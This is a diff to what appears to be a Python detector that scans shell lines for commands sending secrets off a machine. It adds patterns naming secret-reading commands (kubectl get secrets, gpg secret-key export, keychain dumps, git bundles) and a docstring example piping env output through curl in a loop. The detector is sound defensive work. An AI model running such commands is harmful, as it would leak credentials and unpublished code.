@@ -29,6 +29,8 @@ _TALKS: Final = frozenset(
 _COPIES: Final = frozenset({"scp", "rsync", "sftp", "aws", "gsutil", "gcloud", "azcopy", "rclone", "s3cmd", "mc"})
 _GATHERS: Final = frozenset(
     {
+        "git",
+        "kubectl",
         "tar",
         "zip",
         "7z",
@@ -85,6 +87,22 @@ _FILES: Final = pattern(
 _MOST: Final = 100
 
 
+#: What else of its user a machine tells: changes that are not published, secrets of a cluster.
+_SOURCES: Final = pattern(
+    r"\bgit\s{1,4}(?:diff|show|log\s[^|]{0,40}-p\b|format-patch|bundle|stash\s{1,4}show)\b|\btar\s[^|]{0,100}\s\.git\b|\bkubectl\s[^|]{0,60}\bget\s{1,4}secrets?\b|"
+    r"\bgpg\s[^|]{0,60}--export-secret|\bsecurity\s{1,4}(?:dump-keychain|find-\w{1,30}-password)|\bpass\s{1,4}show\b|\bdocker\s{1,4}inspect\b"
+)
+_ASKS: Final = frozenset({"curl", "wget", "http", "xh"})
+_SUBSHELL: Final = pattern(r"(?:^|[|&]\s{0,4}|;\s{0,4})\(([^()$]{1,400})\)\s{0,4}\|")
+_LOOP: Final = pattern(r"\|\s{0,4}while\s{1,4}(?:IFS=\S{0,4}\s{1,4})?read\s[^;|]{0,40};\s{0,4}do\s")
+
+
+def _grouped(line: str) -> str:
+    """``(env; cat x) | while read l; do curl h/$l; done`` as one pipe."""
+    line = _SUBSHELL.sub(lambda found: f" {' | '.join(found[1].split(';'))} |", line)
+    return _LOOP.sub("| ", line)
+
+
 class SentSecrets:
     """What the lines of one file send; variables and files into which earlier ones gathered something are remembered."""
 
@@ -97,6 +115,7 @@ class SentSecrets:
         """What a line is that sends secrets, and its kind; ``None`` for any other. ``words`` are its words in lower case."""
         sends = not words.isdisjoint(_TALKS) or not words.isdisjoint(_COPIES) or "/dev/tcp/" in line
         gathers = not words.isdisjoint(_GATHERS) or "$(" in line
+        line = _grouped(line) if "(" in line or "while" in line else line
         for command in _COMMANDS.split(line) if sends or gathers else ():
             if sends and self._sends(command):
                 return SENT, "sends"
@@ -134,8 +153,9 @@ class SentSecrets:
                 continue
             if _INSIDE.search(bare) or (at and any(_ALL.match(each) for each in parts[:at])):
                 return True
-            if at and any(self._secret(each) for each in parts[:at]):
-                return True
+            if at and any(self._secret(each) or _INSIDE.search(each) or _SOURCES.search(each) for each in parts[:at]):
+                if _UPLOADS.search(bare) or words.isdisjoint(_ASKS) or any(self._secret(each) for each in parts[:at]):
+                    return True
             upload = _UPLOADS.search(bare)
             if upload is not None and self._secret(bare[upload.start() :]):
                 return True
